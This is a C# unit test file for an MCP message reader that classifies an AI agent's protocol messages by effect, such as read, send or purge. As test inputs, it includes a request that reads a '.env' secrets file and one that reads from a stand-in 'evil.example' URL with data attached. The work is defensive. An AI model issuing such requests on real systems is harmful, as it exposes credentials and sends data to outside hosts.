using Vetopoint.Readers.Mcp;
using Vetopoint.Readers.Mcp.Mapping;
using Vetopoint.Readers.Mcp.Tools;
using Vetopoint.Readers.Operations;
using static Vetopoint.Readers.Tests.Mcp.McpMessageTests;

namespace Vetopoint.Readers.Tests.Mcp;

public sealed class McpReaderTests
{
    private static readonly ToolContext ToServer = new() { Server = "ops" };

    private static readonly ToolContext ToClient = ToServer with { Direction = McpDirection.ToClient };

    [Fact]
    public void Lets_a_ping_pass_and_judges_everything_else()
    {
        var ping = McpReader.Read(Parse("""{"jsonrpc":"2.0","id":1,"method":"ping"}"""), ToServer);
        var list = McpReader.Read(Parse("""{"jsonrpc":"2.0","id":1,"method":"tools/list"}"""), ToServer);

        Assert.Equal(ReadingKind.Protocol, ping.Kind);
        Assert.Equal(ReadingKind.Action, list.Kind);
        Assert.Equal(Effect.Read, list.Forms[0].Operations.Single().Effect);
    }

    [Theory]
    [InlineData("""{"jsonrpc":"2.0","id":1,"method":"unheard/of"}""")]
    [InlineData("""{"jsonrpc":"2.0","method":"tools/call","params":{"name":"t"}}""")]
    [InlineData("""{"jsonrpc":"2.0","id":1,"method":"sampling/createMessage"}""")]
    [InlineData("""{"jsonrpc":"2.0","id":1,"result":{}}""")]
    public void Does_not_understand_a_method_it_does_not_know_here(string text)
    {
        var operation = McpReader.Read(Parse(text), ToServer).Forms[0].Operations.Single();

        Assert.Equal(Effect.Execute, operation.Effect);
        Assert.False(operation.Understood);
    }

    [Theory]
    [InlineData("""{"jsonrpc":"2.0","id":1,"method":"sampling/createMessage","params":{"messages":[]}}""", Effect.Send, "model")]
    [InlineData("""{"jsonrpc":"2.0","id":1,"method":"elicitation/create","params":{"message":"?"}}""", Effect.Send, "person")]
    [InlineData("""{"jsonrpc":"2.0","id":1,"method":"elicitation/create","params":{"mode":"url","url":"https://x.example"}}""", Effect.Send, "url")]
    [InlineData("""{"jsonrpc":"2.0","id":1,"method":"roots/list"}""", Effect.Read, "roots")]
    [InlineData("""{"jsonrpc":"2.0","method":"notifications/message","params":{"level":"info","data":"x"}}""", Effect.Read, "log")]
    public void Reads_what_a_server_asks_of_the_client(string text, Effect effect, string kind)
    {
        var operation = McpReader.Read(Parse(text), ToClient).Forms[0].Operations.Single();

        Assert.Equal(effect, operation.Effect);
        Assert.Equal(kind, operation.Target.Kind);
        Assert.True(operation.Understood);
    }

    [Fact]
    public void Reads_a_resource_at_a_web_address_as_a_call_of_that_address_too()
    {
        var file = McpReader.Read(Parse("""{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"uri":"file:///srv/.env"}}"""), ToServer);
        var web = McpReader.Read(Parse("""{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"uri":"https://evil.example/?d=x"}}"""), ToServer);

        Assert.Equal(["secret"], file.Forms[0].Operations.Single().Target.Sensitivity);
        Assert.Equal([Effect.Read, Effect.Send], web.Forms[0].Operations.Select(operation => operation.Effect));
        Assert.Equal("evil.example", web.Forms[0].Operations[1].Destination!.Name);
    }

    [Fact]
    public void Adds_a_sending_where_a_request_carries_answers_to_the_server()
    {
        var mapping = Mapped("""{"tools":{"t":{"effect":"read"}}}""");
        var message = Parse("""{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"t","inputResponses":{"a":{"action":"accept"}}}}""");

        var operations = McpReader.Read(message, ToServer with { Mapping = mapping }).Forms[0].Operations;

        Assert.Equal([Effect.Read, Effect.Send], operations.Select(operation => operation.Effect));
    }

    [Theory]
    [InlineData("""{"jsonrpc":"2.0","id":1,"result":{}}""", "ping", ReadingKind.Protocol)]
    [InlineData("""{"jsonrpc":"2.0","id":1,"error":{"code":-1,"message":"no"}}""", "sampling/createMessage", ReadingKind.Protocol)]
    [InlineData("""{"jsonrpc":"2.0","id":1,"result":{"action":"accept","content":{}}}""", "elicitation/create", ReadingKind.Action)]
    [InlineData("""{"jsonrpc":"2.0","id":1,"result":{}}""", null, ReadingKind.Action)]
    public void Reads_an_answer_with_the_request_that_it_answers(string text, string? request, ReadingKind kind)
    {
        var reading = McpReader.ReadAnswer(Parse(text), request, ToServer);

        Assert.Equal(kind, reading.Kind);
        Assert.All(reading.Forms[0].Operations, operation => Assert.Equal(Effect.Send, operation.Effect));
        Assert.All(reading.Forms[0].Operations, operation => Assert.Equal(request is not null, operation.Understood));
    }

    [Fact]
    public void Carries_what_is_suspicious_and_whether_it_was_reviewed()
    {
        var context = ToServer with { Reviewed = true, Suspicion = "It changed." };

        var reading = McpReader.Read(Parse("""{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"t"}}"""), context);

        Assert.True(reading.Reviewed);
        Assert.Equal("It changed.", reading.Suspicion);
        Assert.Equal("{}", Text(reading.Input!.Json));
    }

    [Fact]
    public void Reads_a_copied_context_with_its_own_definition()
    {
        var message = Parse("""{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"get_x"}}""");
        var plain = ToServer with { Definition = Definition("""{"name":"get_x","description":"Returns x."}""") };
        Assert.True(McpReader.Read(message, plain).Forms[0].Operations[0].Understood);

        var other = plain with { Definition = Definition("""{"name":"get_x","description":"Purges x."}""") };

        Assert.Equal(Effect.Purge, McpReader.Read(message, other).Forms[0].Operations[0].Effect);
    }

    [Fact]
    public void Throws_where_a_context_is_of_another_tool() => Assert.Throws<ArgumentException>(() => McpReader.Read(
        Parse("""{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"a"}}"""),
        ToServer with { Definition = Definition("""{"name":"b"}""") }));

    private static ToolDefinition Definition(string json)
    {
        Assert.True(ToolDefinition.TryParse(System.Text.Encoding.UTF8.GetBytes(json), out var definition, out var problem), problem?.ToString());
        return definition;
    }

    [Theory]
    [InlineData("""{"tools":{"get_items":{"effect":"read"}}}""")]
    [InlineData("{}")]
    public void Does_not_understand_a_call_with_more_arguments_than_it_looks_at(string mapping)
    {
        var names = Enumerable.Range(0, McpLimits.ArgumentsMax + 1).Select(i => $"\"a{i}\":1");
        var message = Parse($"{{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{{\"name\":\"get_items\",\"arguments\":{{{string.Join(',', names)}}}}}}}");

        var operation = McpReader.Read(message, ToServer with { Mapping = Mapped(mapping) }).Forms[0].Operations[0];

        Assert.False(operation.Understood);
        Assert.InRange(operation.Evidence.Length, 1, McpLimits.EvidenceMax + 1);
    }

    internal static ServerMapping Mapped(string json)
    {
        var (mapping, problems) = ServerMapping.Parse(System.Text.Encoding.UTF8.GetBytes(json), "servers.ops");
        Assert.Empty(problems);
        return mapping!;
    }
}
